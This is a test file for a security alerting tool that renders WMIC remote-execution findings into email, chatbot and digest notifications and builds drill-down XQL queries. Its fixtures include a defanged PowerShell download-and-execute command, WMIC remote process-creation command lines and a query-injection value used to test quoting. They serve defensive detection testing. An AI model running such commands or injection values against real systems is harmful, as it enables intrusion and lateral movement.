import { describe, expect, it } from 'vitest';
import {
  DIGEST_SCHEMA,
  FINDING_SCHEMA,
  drillDownXql,
  renderChatbot,
  renderDefault,
  renderDigest,
  renderEmail,
} from '../../lambda/notify/index.js';
import { parseXql, runXql } from '../../local/xql/index.js';
import { T0, makeContext, makeFinding } from '../fixtures/notify/findings.js';

const ctx = makeContext();

describe('renderEmail', () => {
  it('gives an analyst everything needed to act from the email alone', () => {
    const f = makeFinding();
    const { body } = renderEmail(f, ctx);

    expect(body).toContain('"WKS-FIN-042" -> "srv-file-01"');
    expect(body).toContain('"powershell.exe -nop -w hidden -c \\"iex (iwr hxxp://10[.]0[.]0[.]5/a.ps1)\\""');
    expect(body).toContain('/password:[REDACTED]');
    expect(body).toMatch(/User:\s+"CORP\\jdoe"/);
    expect(body).toMatch(/Parent process:\s+"C:\\Windows\\System32\\cmd\.exe/);
    expect(body).toMatch(/Parent command line:\s+"cmd\.exe \/c C:\\Users\\Public\\run\.bat/);
    expect(body).toContain('2026-03-14T09:41:53.000Z');
    expect(body).toContain('risk score 95');
    expect(body).toContain('Severity CRITICAL');
    expect(body).toContain('+5  payload.powershell: remote command starts PowerShell');
    expect(body).toContain('T1047 Windows Management Instrumentation - TA0008 Lateral Movement');
    expect(body).toContain('T1047 Windows Management Instrumentation - TA0002 Execution');
    for (const action of ctx.hunt.responseActions) expect(body).toContain(action);
    expect(body).toContain('3 since first seen 2026-03-14T09:26:53.000Z, last seen 2026-03-14T09:41:53.000Z');
    expect(body).toContain(drillDownXql(f, ctx));
  });

  it('shows the allowlist entry of a suppressed finding', () => {
    const f = makeFinding({ suppressed: { entryId: 'sccm-push', owner: 'it-ops', reason: 'SCCM client push', expires: '2026-12-31' } });
    expect(renderEmail(f, ctx).body).toContain('suppressed by sccm-push (owner it-ops, expires 2026-12-31): SCCM client push');
  });

  it('says a finding without remote command has none on the line', () => {
    expect(renderEmail(makeFinding({ remoteCommand: null }), ctx).body).toMatch(/Remote command \(what ran\):\s+\(none on the line\)/);
  });

  it('names severity, pair and score in an ASCII subject under 100 characters', () => {
    const { subject } = renderEmail(makeFinding(), ctx);
    expect(subject).toBe('[CRITICAL] WMIC remote exec "WKS-FIN-042" -> "srv-file-01" (risk 95)');
  });

  it('cuts a long subject to 99 characters and keeps it printable ASCII', () => {
    const f = makeFinding({ sourceHost: 'Ä'.repeat(50) + 'x'.repeat(80), targetHost: 'ünïcødé-host-name-that-is-long-too' });
    const { subject } = renderEmail(f, ctx);
    expect(subject.length).toBeLessThanOrEqual(99);
    expect(subject).toMatch(/^[\x20-\x7E]+$/);
    expect(subject.endsWith('...')).toBe(true);
  });

  it('renders a malformed record with placeholders instead of throwing', () => {
    const broken = makeFinding({
      firstSeen: Number.NaN,
      lastSeen: Number.POSITIVE_INFINITY,
      riskScore: undefined as unknown as number,
      severity: 'bogus' as never,
      reasons: null as never,
      user: null,
      parentImage: null,
      count: undefined as unknown as number,
    });
    const { subject, body } = renderEmail(broken, ctx);
    expect(subject).toContain('[UNKNOWN]');
    expect(body).toContain('unknown time');
    expect(body).toMatch(/User:\s+\(unknown\)/);
  });
});

/** "2026-03-14 08:26:53 +0000", XQL's documented absolute time (whole seconds, as in these fixtures). */
function xqlForm(ms: number): string {
  const iso = new Date(ms).toISOString();
  return `${iso.slice(0, 10)} ${iso.slice(11, 19)} +0000`;
}

describe('drillDownXql', () => {
  it('filters the host pair over first/last seen widened by an hour, inside the local XQL subset', () => {
    const xql = drillDownXql(makeFinding(), ctx);
    // One config stage, the documented absolute form (never ISO T…Z).
    expect(xql).toContain('\nconfig case_sensitive = false timeframe between "2026-03-14 08:26:53 +0000" and "2026-03-14 10:41:53 +0000"\n');
    expect(xql.match(/config/g)).toHaveLength(1);
    expect(xql).toContain('| dataset = xdr_data');
    expect(xql).toContain('agent_hostname = "WKS-FIN-042"');
    expect(xql).toContain('action_process_image_command_line contains "srv-file-01"');
    expect(xql).toContain('event_sub_type = ENUM.PROCESS_START');
    expect(xql).toContain('action_process_image_name = "wmic.exe"');
    expect(xql.trimEnd().endsWith('| sort desc _time')).toBe(true);
    // Only the subset's stages: comments, config, dataset, filter (and continuation lines), fields, sort.
    for (const l of xql.split('\n')) {
      expect(l).toMatch(/^(\/\/ |config |\| dataset = |\| filter |    and |\| fields |\| sort desc _time$)/);
    }
  });

  it('runs on the local XQL engine and selects only the pair inside its window', () => {
    const row = (over: Record<string, unknown>) => ({
      _time: T0,
      event_type: 'PROCESS',
      event_sub_type: 'PROCESS_START',
      action_process_image_name: 'WMIC.exe',
      agent_hostname: 'wks-fin-042',
      action_process_image_command_line: 'wmic /node:SRV-FILE-01 process call create notepad.exe',
      event_id: 'hit',
      ...over,
    });
    const rows = [
      row({}),
      row({ event_id: 'other-source', agent_hostname: 'WKS-OTHER' }),
      row({ event_id: 'other-target', action_process_image_command_line: 'wmic /node:srv-db process call create x' }),
      row({ event_id: 'too-late', _time: T0 + 3 * 60 * 60_000 }),
      row({ event_id: 'not-wmic', action_process_image_name: 'powershell.exe' }),
    ];
    const found = runXql(parseXql(drillDownXql(makeFinding(), ctx)), rows, { now: T0 }).map((r) => r['event_id']);
    expect(found).toEqual(['hit']);
    const dropped = drillDownXql(makeFinding({ sourceHost: 'x"y' }), ctx);
    expect(runXql(parseXql(dropped), rows, { now: T0 }).map((r) => r['event_id']).sort()).toEqual(['hit', 'other-source']);
  });

  it('drops a host condition that XQL cannot quote and says so in a comment', () => {
    const xql = drillDownXql(makeFinding({ sourceHost: 'evil" or agent_hostname != "', targetHost: 'a\nb' }), ctx);
    expect(xql).not.toContain('evil');
    expect(xql).not.toContain('agent_hostname =');
    expect(xql).toMatch(/^\/\/ Source host condition dropped/m);
    expect(xql).toMatch(/^\/\/ Target host condition dropped/m);
    expect(xql.split('"').length % 2).toBe(1);
  });

  it('keeps a file-list target (@path) as a condition', () => {
    const f = makeFinding({ targetHost: '@c:\\temp\\hosts.txt', commandLine: 'wmic /node:@C:\\temp\\hosts.txt process call create x' });
    expect(drillDownXql(f, ctx)).toContain('contains "@c:\\temp\\hosts.txt"');
  });

  it('falls back to the run window when first/last seen are unusable', () => {
    const xql = drillDownXql(makeFinding({ firstSeen: Number.NaN }), ctx);
    expect(xql).toContain(`between "${xqlForm(ctx.window.from)}" and "${xqlForm(ctx.window.to)}"`);
    expect(xql).toContain("// Window: the run's window");
  });

  it('omits the timeframe with a comment when no window is usable', () => {
    const xql = drillDownXql(makeFinding({ firstSeen: Number.NaN }), makeContext({ window: { from: Number.NaN, to: 0 } }));
    expect(xql).not.toContain('config timeframe');
    expect(xql).toContain('// Window: none could be computed');
  });
});

describe('renderChatbot', () => {
  it('follows the Chatbot custom notification schema', () => {
    const n = renderChatbot(makeFinding(), ctx);
    expect(n).toMatchObject({ version: '1.0', source: 'custom', content: { textType: 'client-markdown' } });
    expect(n.content.title).toContain('`WKS-FIN-042` → `srv-file-01`');
    expect(n.content.description).toContain('*Risk score:* 95');
    expect(n.content.description).toContain('*ATT&amp;CK:* T1047 (TA0008 Lateral Movement, TA0002 Execution)');
    expect(n.content.nextSteps).toHaveLength(ctx.hunt.responseActions.length);
    expect(n.content.keywords).toEqual(expect.arrayContaining(['T1047', 'TA0008', 'TA0002', 'CRITICAL']));
    expect(n.metadata?.additionalContext).toMatchObject({ riskScore: '95', severity: 'CRITICAL' });
    expect(Object.values(n.metadata?.additionalContext ?? {}).every((v) => typeof v === 'string')).toBe(true);
  });
});

describe('renderDefault', () => {
  it('carries the finding in a versioned shape', () => {
    const f = makeFinding();
    const p = renderDefault(f, ctx) as Record<string, unknown>;
    expect(p).toMatchObject({
      schema: FINDING_SCHEMA,
      kind: 'finding',
      hunt: { id: 'HuntQuery-Windows-WMIC-RemoteExec', version: '1.0' },
      fingerprint: f.fingerprint,
      sourceHost: 'WKS-FIN-042',
      targetHost: 'srv-file-01',
      remoteCommand: { value: f.remoteCommand, truncated: false, length: f.remoteCommand?.length },
      riskScore: 95,
      severity: 'critical',
      count: 3,
      firstSeen: new Date(T0).toISOString(),
      eventIds: ['evt-1', 'evt-2', 'evt-3'],
      eventIdsTotal: 3,
      window: { from: new Date(ctx.window.from).toISOString() },
    });
    expect(p['attack']).toEqual(ctx.hunt.attack);
    expect(p['drillDownXql']).toBe(drillDownXql(f, ctx));
    expect(JSON.parse(JSON.stringify(p))).toEqual(p);
  });
});

describe('renderDigest', () => {
  const findings = Array.from({ length: 40 }, (_, i) =>
    makeFinding({ sourceHost: `WKS-${i}`, targetHost: `srv-${i}`, riskScore: 60 + i, severity: i >= 35 ? 'critical' : 'high' }),
  );
  const digestCtx = makeContext({ totals: { findings: 45, newPairs: 40, repeats: 3, suppressed: 2 } });

  it('lists the top pairs by risk with totals and says it replaces the per-pair messages', () => {
    const d = renderDigest(findings, digestCtx, 20);
    expect(d.email.subject).toBe('[CRITICAL] WMIC remote exec storm: 40 new host pairs (digest)');
    expect(d.email.body).toContain('this digest replaces the 40 per-pair messages');
    expect(d.email.body).toContain('more than the storm limit of 20');
    expect(d.email.body).toContain('Run totals: 45 findings, 40 new host pairs, 3 repeats');
    expect(d.email.body.indexOf('WKS-39 -> srv-39')).toBeLessThan(d.email.body.indexOf('WKS-38 -> srv-38'));
    expect(d.email.body).toContain('and 15 more pairs');
    expect(d.email.body).not.toContain('WKS-0 ->');
    expect(d.chatbot.content.description).toContain('replaces the 40 per-pair messages');
    const p = d.default as Record<string, unknown>;
    expect(p).toMatchObject({ schema: DIGEST_SCHEMA, kind: 'digest', replacesPerPairMessages: true, pairCount: 40, highestSeverity: 'critical' });
    expect(p['fingerprints']).toHaveLength(40);
    expect((p['topPairs'] as { riskScore: number }[])[0]?.riskScore).toBe(99);
    // The digest's drill-down covers the run window and parses on the local engine.
    expect(runXql(parseXql(String(p['drillDownXql'])), [], { now: T0 })).toEqual([]);
    expect(p['drillDownXql']).toContain(`config case_sensitive = false timeframe between "${xqlForm(digestCtx.window.from)}"`);
  });
});
